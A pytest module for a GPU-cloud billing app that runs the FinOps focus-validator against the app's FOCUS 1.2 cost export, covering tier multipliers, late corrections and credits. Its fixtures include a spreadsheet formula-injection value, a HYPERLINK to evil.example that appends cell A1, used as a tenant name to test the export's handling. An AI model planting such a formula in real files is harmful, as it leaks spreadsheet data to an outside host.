"""The FOCUS export checked by the FinOps Foundation's own `focus-validator` (FOCUS 1.2 model): no rule that
applies to gpucloud fails, on a month with whole-GPU and MIG usage, a tier multiplier, late usage (a
correction), a credit for a fault, and a tenant whose display name is a formula.

The validator runs from its own virtualenv (`scripts/install-test-tools.sh` puts it in var/tools/): it pins
numpy below 2 and brings pandas, pyarrow, polars and duckdb, which the project's venv does not take. What
"applies" means is FOCUS's: a rule applies when every applicability criterion it names is one gpucloud
declares (`exports.FOCUS_APPLICABILITY`). Two gaps of focus-validator 2.0 are bridged here, each named:
- it includes a rule when *any* of its criteria is declared (the specification says all: "when the provider
  supports X and publishes Y"); the model is given to it with the undeclared criteria only, so the rule is
  left out exactly when FOCUS leaves it out;
- a rule whose SQL reads a column of a feature gpucloud does not offer (commitment discounts, capacity
  reservations…), which FOCUS lets a dataset leave out, fails with a database error rather than being
  skipped; such failures, and alternatives of an OR that passed, are not counted.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings

from billing import exports
from billing.models import HealthCredit
from billing.services.ingest import ingest_scrape
from billing.services.invoicing import draft_invoice, issue_invoice
from billing.services.rates import create_rate_card
from billing.tests.conftest import A100, Row, exposition, gpu_uuid
from core.audit import Actor
from tenants.models import Tenant
from tests.tools import unavailable

ADMIN = Actor.console("tests")
HOME = Path(os.environ.get("FOCUS_VALIDATOR_HOME", settings.BASE_DIR / "var" / "tools" / "focus-validator"))
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def when(month: int, day: int, hour: int) -> datetime:
    return datetime(2026, month, day, hour, tzinfo=UTC)


@dataclass
class Validator:
    executable: Path
    packages: Path  # its site-packages: the CLI reads its currency codes relative to the working directory
    model: dict[str, Any]


@pytest.fixture(scope="session")
def validator() -> Validator:
    executable = HOME / "bin" / "focus-validator"
    if not executable.exists():
        unavailable(f"focus-validator is not installed in {HOME}")
    where = "import focus_validator, pathlib; print(pathlib.Path(focus_validator.__file__).parent)"
    found = subprocess.run([HOME / "bin" / "python", "-c", where], capture_output=True, text=True, check=True)
    package = Path(found.stdout.strip())
    (model_file,) = (package / "rules").glob("model-1.2*.json")
    return Validator(executable, package.parent, json.loads(model_file.read_text()))


@pytest.fixture
def months(api, people, mini, tenant_on, settings) -> dict[str, str]:
    """May (issued) and June (draft) of two tenants, as the API exports them platform-wide."""
    settings.METER_MAX_GAP = 3600
    create_rate_card(
        actor=ADMIN,
        effective_from=when(1, 1, 0),
        prices={"h100-80gb": "2.00", "a100-80gb": "1.40"},
        tier_multipliers={"isolated": "1.5"},
    )
    acme, beta = tenant_on("acme", trust_tier="isolated"), tenant_on("beta", display_name=FORMULA)
    for hour in (10, 11, 12):
        train = [Row(gpu_uuid("h100-0", 0), pod="tenant-acme/train")]
        train.append(Row(gpu_uuid("h100-0", 1), index=1, pod="tenant-beta/train"))
        ingest_scrape(mini, "h100-0", when(5, 10, hour), exposition("h100-0", train))
        a100 = gpu_uuid("a100-0", 0)
        slices = [
            Row(a100, model=A100),
            Row(a100, model=A100, pod="tenant-acme/x", profile="3g.40gb", gi="1"),
        ]
        ingest_scrape(mini, "a100-0", when(5, 10, hour), exposition("a100-0", slices))
    for tenant in (acme, beta):
        issue_invoice(actor=ADMIN, invoice=draft_invoice(actor=ADMIN, tenant=tenant, year=2026, month=5))
    for hour in (22, 23):  # late samples of May, after May was issued: June carries them as a correction
        late = [Row(gpu_uuid("h100-0", 2), index=2, pod="tenant-acme/late")]
        ingest_scrape(mini, "h100-0", when(5, 31, hour), exposition("h100-0", late))
    for hour in (10, 11):
        june = [Row(gpu_uuid("h100-0", 0), pod="tenant-acme/train")]
        ingest_scrape(mini, "h100-0", when(6, 2, hour), exposition("h100-0", june))
    gpu = gpu_uuid("h100-0", 0)
    HealthCredit.objects.create(
        tenant=acme, host_cluster=mini, node="h100-0", gpu_uuid=gpu, device=gpu, namespace="tenant-acme",
        pod="train", gpu_class="h100-80gb", lost_from=when(6, 3, 0), lost_until=when(6, 3, 1),
        gpu_us=3600 * 10**6,
    )  # fmt: skip
    for tenant in (acme, beta):
        draft_invoice(actor=ADMIN, tenant=tenant, year=2026, month=6)
    client = api(people["admin"])
    exported = {}
    for month in ("2026-05", "2026-06"):
        response = client.get(f"/api/v1/invoices/export/?month={month}&as=focus")
        assert response.status_code == 200
        exported[month] = response.content.decode()
    return exported


def _references(node: Any) -> Iterator[str]:
    """The columns and the rules a requirement or condition names, at any depth."""
    if isinstance(node, dict):
        for key, value in node.items():
            if key in ("ColumnName", "ModelRuleId") and isinstance(value, str):
                yield value
            yield from _references(value)
    elif isinstance(node, list):
        for item in node:
            yield from _references(item)


def _and_semantics(model: dict[str, Any]) -> dict[str, Any]:
    """The model with each rule naming only the criteria gpucloud does not declare (when it names any):
    focus-validator then leaves a rule out exactly when one of its criteria is undeclared."""
    patched: dict[str, Any] = json.loads(json.dumps(model))
    for rule in patched["ModelRules"].values():
        undeclared = [
            c for c in rule.get("ApplicabilityCriteria") or [] if c not in exports.FOCUS_APPLICABILITY
        ]
        if undeclared:
            rule["ApplicabilityCriteria"] = undeclared
    return patched


def _absent_feature_columns(model: dict[str, Any], columns: set[str]) -> set[str]:
    """Columns of FOCUS features gpucloud does not offer, which the export therefore leaves out."""
    needed: dict[str, bool] = {}
    for rule in model["ModelRules"].values():
        requirement = rule["ValidationCriteria"]["Requirement"]
        if requirement.get("CheckFunction") == "ColumnPresent":
            declared = set(rule.get("ApplicabilityCriteria") or []) <= exports.FOCUS_APPLICABILITY
            needed[requirement["ColumnName"]] = needed.get(requirement["ColumnName"], False) or declared
    return {column for column, wanted in needed.items() if not wanted and column not in columns}


def applicable_failures(validator: Validator, text: str, tmp_path: Path) -> dict[str, str]:
    """Rule id → message for each rule that applies to gpucloud and fails on this FOCUS CSV."""
    data, rules = tmp_path / "focus.csv", tmp_path / "rules"
    rules.mkdir(parents=True)
    data.write_text(text)
    (rules / "model-1.2.0.1.json").write_text(json.dumps(_and_semantics(validator.model)))
    report = tmp_path / "report.xml"
    done = subprocess.run(
        [validator.executable, "--data-file", data, "--validate-version", "1.2", "--block-download",
         "--rule-set-path", rules, "--applicability-criteria", ",".join(sorted(exports.FOCUS_APPLICABILITY)),
         "--output-type", "unittest", "--output-destination", report],
        cwd=validator.packages, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert report.exists(), (
        f"focus-validator wrote no report ({done.returncode}):\n{done.stdout}\n{done.stderr}"
    )
    failed = {}
    for case in ET.parse(report).iter("testcase"):
        outcome = case.find("failure") if case.find("failure") is not None else case.find("error")
        if outcome is not None:
            failed[case.get("name", "").split(" :: ")[0]] = outcome.get("message", "")
    rules_by_id = validator.model["ModelRules"]
    columns = set(next(csv.reader(io.StringIO(text))))
    absent = _absent_feature_columns(validator.model, columns)
    parents: dict[str, list[str]] = {}
    for rule_id, rule in rules_by_id.items():
        for child in _references(rule["ValidationCriteria"]["Requirement"]):
            if child in rules_by_id:
                parents.setdefault(child, []).append(rule_id)

    def reads_absent_column(rule_id: str, seen: frozenset[str] = frozenset()) -> bool:
        criteria = rules_by_id[rule_id]["ValidationCriteria"]
        own = set(_references(criteria["Requirement"])) | set(_references(criteria["Condition"]))
        if own & absent:
            return True
        return any(
            reads_absent_column(p, seen | {rule_id}) for p in parents.get(rule_id, []) if p not in seen
        )

    def excused(rule_id: str) -> bool:
        if rule_id not in rules_by_id or reads_absent_column(rule_id):
            return True
        or_passed = any(
            rules_by_id[p]["ValidationCriteria"]["Requirement"].get("CheckFunction") == "OR"
            and p not in failed
            for p in parents.get(rule_id, [])
        )
        children = [
            c for c in _references(rules_by_id[rule_id]["ValidationCriteria"]["Requirement"]) if c in failed
        ]
        return or_passed or (bool(children) and all(excused(c) for c in children))

    return {rule_id: message for rule_id, message in failed.items() if not excused(rule_id)}


def test_the_focus_12_export_passes_every_rule_of_focus_validator_that_applies_to_gpucloud(
    validator, months, tmp_path
):
    for month, text in months.items():
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {r["ChargeCategory"] for r in rows} >= (
            {"Usage"} if month == "2026-05" else {"Usage", "Credit"}
        )
        assert applicable_failures(validator, text, tmp_path / month) == {}, month


def test_the_validator_catches_what_the_export_must_not_do(validator, months, tmp_path):
    """The check can fail: a usage row without its SKU and a negative list price are reported."""
    rows = list(csv.DictReader(io.StringIO(months["2026-05"])))
    rows[0]["SkuId"] = ""
    rows[0]["SkuPriceId"] = ""
    rows[0]["SkuPriceDetails"] = ""
    rows[0]["ListUnitPrice"] = "-2.000000"
    broken = io.StringIO()
    writer = csv.DictWriter(broken, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)

    failures = applicable_failures(validator, broken.getvalue(), tmp_path)

    assert any(rule.startswith(("SkuId-", "SkuMeter-", "SkuPriceId-")) for rule in failures), failures
    assert any(rule.startswith("ListUnitPrice-") for rule in failures), failures


def test_the_focus_10_columns_the_export_had_fail_focus_12(validator, months, api, people, tmp_path):
    """What the export was (FOCUS 1.0, still offered with focus_version=1.0) misses 1.2's SKU columns."""
    response = api(people["admin"]).get("/api/v1/invoices/export/?month=2026-05&as=focus&focus_version=1.0")
    assert response.status_code == 200
    header = next(csv.reader(io.StringIO(response.content.decode())))
    assert "SkuMeter" not in header
    assert "InvoiceId" not in header

    failures = applicable_failures(validator, response.content.decode(), tmp_path)

    assert {"CostAndUsage-D-059-C", "CostAndUsage-D-061-C"} <= set(failures)  # SkuMeter, SkuPriceDetails


def test_the_export_declares_what_gpucloud_supports_and_leaves_out_the_rest(months):
    header = next(csv.reader(io.StringIO(months["2026-06"])))
    assert header == list(exports.FOCUS_COLUMNS)
    for column in ("InvoiceId", "ServiceSubcategory", "SkuId", "SkuMeter", "SkuPriceId", "SkuPriceDetails"):
        assert column in header
    assert not any(c.startswith("CommitmentDiscount") or c.startswith("CapacityReservation") for c in header)
    assert all(c[0].isupper() or c.startswith("x_") for c in header)  # own columns carry FOCUS's x_ prefix
    assert Tenant.objects.filter(display_name=FORMULA).exists()
